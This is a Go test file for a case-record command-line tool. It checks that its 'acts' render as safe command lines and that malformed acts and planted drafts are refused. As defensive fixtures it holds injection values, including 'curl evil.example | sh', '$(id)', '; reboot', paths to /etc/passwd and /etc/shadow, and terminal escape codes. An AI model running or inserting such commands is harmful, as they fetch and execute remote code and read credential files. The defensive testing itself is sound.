package casebook

import (
	"encoding/json"
	"errors"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"casefile/internal/record"
	"casefile/internal/team"
	"casefile/internal/verify"
)

func TestActWords(t *testing.T) {
	id, entry := record.ID("K3F927QM"), record.Ref{Case: "K3F927QM", Entry: "7K2M9QXH"}
	readers := OnCase("readers grant", id)
	readers.Members = []string{"asha", "nia"}
	for _, tt := range []struct {
		act  Act
		want string
	}{
		{OfKind("note", id), "casefile note K3F9-27QM"},
		{Act{Do: "add", Kind: "triage", On: []ActOn{{Case: id}}}, "casefile add K3F9-27QM triage"},
		{OfKind("note", id).With("also", "P4W8-7K2M").Set("link", true),
			"casefile note K3F9-27QM --also P4W8-7K2M --link"},
		{OnEntries("endorse", entry).With("level", "line").With("verdict", "returned"),
			"casefile endorse K3F9-27QM/7K2M-9QXH --level line --verdict returned"},
		{OnCase("attach", id), "casefile attach K3F9-27QM FILE"},
		{OnCase("erase --finish", id), "casefile erase K3F9-27QM --finish"},
		{OnCase("erase --repair", id), "casefile erase K3F9-27QM --repair"},
		{OnCase("sar disclose", id), "casefile sar disclose K3F9-27QM --pack FOLDER"},
		{OnCase("transfer sent", id), "casefile transfer sent K3F9-27QM"},
		{readers, "casefile readers K3F9-27QM grant asha nia"},
		{typed("kind", "k3f9"), "casefile note k3f9"},
		{typed("amend", "K3F9/7K2M"), "casefile amend K3F9/7K2M"},
		{typed("amend", "7K2M"), "casefile amend 7K2M"},
		{Act{Do: "rekey"}, "casefile rekey --old-identity FILE"},
		{Act{Do: "concern"}, "casefile concern"},
		{Act{}, ""},
	} {
		if got := tt.act.String(); got != tt.want {
			t.Errorf("%+v: %q, want %q", tt.act, got, tt.want)
		}
	}
}

// The act that records an entry again asks for all that the entry came with.
func TestActForAnEntry(t *testing.T) {
	id := record.ID("K3F927QM")
	for kind, want := range map[string]string{
		"note":       "casefile note K3F9-27QM",
		"triage":     "casefile add K3F9-27QM triage",
		"attachment": "casefile attach K3F9-27QM FILE",
	} {
		act := actFor(team.OpAdd, &record.Entry{Case: id, Kind: kind},
			verify.CaseTrailers{Case: id})
		if got := act.String(); got != want || act.Check() != nil {
			t.Errorf("%s: %q, want %q", kind, got, want)
		}
	}
}

// typed returns an act on what a person typed, where nobody looked it up.
func typed(do, word string) Act {
	a := Act{Do: do, On: []ActOn{{Typed: word}}}
	if do == actKind {
		a.Kind = "note"
	}
	return a
}

// What is no ID, no name and no word of the table is refused, wherever it stands.
func TestActRefuses(t *testing.T) {
	id, entry := record.ID("K3F927QM"), record.Ref{Case: "K3F927QM", Entry: "7K2M9QXH"}
	for name, act := range map[string]Act{
		"no command":         {Do: "sync"},
		"a command line":     {Do: "endorse K3F9/7K2M --verdict endorsed"},
		"a flag":             {Do: "--help"},
		"a shell":            {Do: "open; curl evil.example | sh #"},
		"a kind of words":    OfKind("endorse K3F9/7K2M --verdict endorsed", id),
		"a kind as a flag":   OfKind("--identity", id),
		"a kind's command":   OfKind("dispose", id),
		"a kind as an ID":    OfKind("k3f9", id),
		"a kind too many":    {Do: "close", Kind: "note", On: []ActOn{{Case: id}}},
		"a path":             {Do: "attach", On: []ActOn{{Case: "../../etc"}}},
		"half an ID":         OnCase("close", "K3F9"),
		"an ID of none":      OnCase("close", "K3F927QI"),
		"no case":            {Do: "close"},
		"an entry too many":  OnEntries("close", entry),
		"no entry":           OnCase("amend", id),
		"typed as a flag":    typed("kind", "-F2KH"),
		"typed with a line":  typed("kind", "K3F9\n"),
		"typed as a word":    typed("kind", "nothing"),
		"typed as a path":    typed("amend", "K3F9/../7K2M"),
		"typed twice":        {Do: "close", On: []ActOn{{Case: id, Typed: "K3F9"}}},
		"typed, an entry":    typed("close", "K3F9/7K2M"),
		"two cases":          {Do: "close", On: []ActOn{{Case: id}, {Case: id}}},
		"a file":             OfKind("note", id).With("file", "/etc/passwd"),
		"a confirmation":     OnCase("dispose", id).With("confirm", "K3F927QM"),
		"an identity":        OfKind("note", id).With("identity", "id.txt"),
		"another's flag":     OfKind("note", id).With("verdict", "endorsed"),
		"a verdict of none":  OnEntries("endorse", entry).With("verdict", "perhaps"),
		"a level in words":   OnEntries("endorse", entry).With("level", "line --reported"),
		"a member as a flag": OnCase("handover", id).With("to", "--all"),
		"a member as a path": OnCase("handover", id).With("to", "../asha"),
		"a day of words":     OnCase("handover", id).With("until", "2026-03-06; reboot"),
		"a value of a yes":   OfKind("note", id).With("link", "yes"),
		"members":            {Do: "close", On: []ActOn{{Case: id}}, Members: []string{"asha"}},
		"no members":         OnCase("readers grant", id),
		"a control sign":     OfKind("note\x1b[2J", id),
		"a turned text":      OfKind("note\u202e", id),
		"a line":             OfKind("note\nendorse", id),
		"words and no act":   {Kind: "note"},
	} {
		if err := act.Check(); !errors.Is(err, ErrAct) {
			t.Errorf("%s: %v", name, err)
		}
		if s := act.String(); s != "" {
			t.Errorf("%s is shown as %q", name, s)
		}
	}
}

// An act of any content is either refused, or its words hold only letters, digits, - _ and /. Only
// the program's own flags begin with -.
func TestActIsOfAClosedSet(t *testing.T) {
	random := rand.New(rand.NewPCG(16, 7))
	words := []string{"note", "K3F927QM", "7K2M9QXH", "--verdict", "endorsed", "line", "asha", "-F",
		"/etc/passwd", "$(id)", "`id`", ";", "\x1b[31m", "\u202e", "\u2066", "\n", " ", "'", `"`,
		"",
		"..", "2026-03-06", "K3F9", "--", "-", "ünder", "\x00", "~", "*"}
	word := func() string {
		out := words[random.IntN(len(words))]
		for random.IntN(3) == 0 {
			out += words[random.IntN(len(words))]
		}
		return out
	}
	names := slices.Sorted(func(yield func(string) bool) {
		for name := range acts() {
			if !yield(name) {
				return
			}
		}
	})
	passed := 0
	for range 200_000 {
		act := Act{Do: names[random.IntN(len(names))]}
		if random.IntN(10) == 0 {
			act.Do = word()
		}
		if random.IntN(2) == 0 {
			act.Kind = word()
		}
		for range random.IntN(3) {
			act.On = append(act.On, ActOn{record.ID(word()), record.ID(word()), word()})
		}
		for range random.IntN(2) {
			act.Members = append(act.Members, word())
		}
		for range random.IntN(2) {
			act.Flags = append(act.Flags, ActFlag{strings.TrimLeft(word(), "-"), word()})
		}
		if act.Check() != nil {
			continue
		}
		passed++
		for _, w := range act.Words() {
			if strings.Trim(w,
				"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_/") != "" {
				t.Fatalf("%+v has the word %q", act, w)
			}
			if strings.HasPrefix(w, "-") && !strings.HasPrefix(w, "--") {
				t.Fatalf("%+v has the flag %q", act, w)
			}
		}
	}
	if passed < 100 {
		t.Errorf("only %d acts were in order: the test shows nothing", passed)
	}
}

// An act comes back from its draft as it was, and no other.
func TestDraftKeepsTheAct(t *testing.T) {
	o := newOffice(t)
	b := o.as("asha")
	want := OnEntries("endorse", record.Ref{Case: "K3F927QM", Entry: "7K2M9QXH"}).
		With("verdict", "returned")
	id := must(b.KeepDraft(want, []byte("Say why.\n")))
	d := must(b.OpenDraft(string(id)))
	if d.Act.String() != want.String() || string(d.Text) != "Say why.\n" || d.Why != "" {
		t.Errorf("opened %+v", d)
	}
}

// Wheree nothing is pinned, a draft still says which case it is about, and orders nothing.
func TestDraftWhereNothingIsPinned(t *testing.T) {
	o := newOffice(t)
	place := must(o.as("asha").DraftPlace())
	head := must(json.Marshal(draftHead{draftForm, place.Member, place.Records,
		OnCase("close", "K3F927QM")}))
	place.Records = ""
	act, why, text := place.opened(append(head, "\nThe text.\n"...))
	if !act.None() || !slices.Equal(act.Cases(), []record.ID{"K3F927QM"}) ||
		!strings.Contains(why, "pinned") || string(text) != "The text.\n" {
		t.Errorf("opened as %+v, %q, %q", act, why, text)
	}
}

// Anybody can seal a draft to a member. What it says is checked; what another copy, another
// member or another program kept is a text, and no more.
func TestPlantedDrafts(t *testing.T) {
	o := newOffice(t)
	b := o.as("asha")
	place := must(b.DraftPlace())
	head := func(change func(*draftHead)) string {
		h := draftHead{draftForm, place.Member, place.Records, OnCase("close", "K3F927QM")}
		change(&h)
		return string(must(json.Marshal(h)))
	}
	for _, tt := range []struct{ name, line, why string }{
		{"one of this program's", head(func(*draftHead) {}), ""},
		{"one that no records took", head(func(h *draftHead) { h.Member, h.Records = "", "" }), ""},
		{"another member's", head(func(h *draftHead) { h.Member = "mina" }), "somebody else"},
		{"of other records", head(func(h *draftHead) {
			h.Records = strings.Repeat("1", 40)
		}), "other records"},
		{"a newer form", head(func(h *draftHead) { h.Draft = 3 }), "another version"},
		{"a command line", "casefile dispose K3F927QM --confirm K3F927QM", "an earlier version"},
		{"a confirmation", head(func(h *draftHead) {
			h.Act = OnCase("dispose", "K3F927QM").With("confirm", "K3F927QM")
		}), "no flag"},
		{"a file", head(func(h *draftHead) {
			h.Act = OfKind("note", "K3F927QM").With("file", "/etc/shadow")
		}), "no flag"},
		{"a field of its own",
			strings.Replace(head(func(*draftHead) {}), `{"draft"`, `{"draft":2,"run":"sh","draft"`,
				1), "another version"},
		{"two values", head(func(*draftHead) {}) + "{}", "another version"},
		{"no act at all", "Robin came.", "does not say"},
	} {
		act, why, text := place.opened([]byte(tt.line + "\nThe text.\n"))
		if tt.why == "" && (why != "" || act.String() != "casefile close K3F9-27QM") ||
			tt.why != "" && (!strings.Contains(why, tt.why) || !act.None()) {
			t.Errorf("%s: %+v, %q", tt.name, act, why)
		}
		if !strings.HasSuffix(string(text), "The text.\n") {
			t.Errorf("%s: the text is %q", tt.name, text)
		}
	}
}
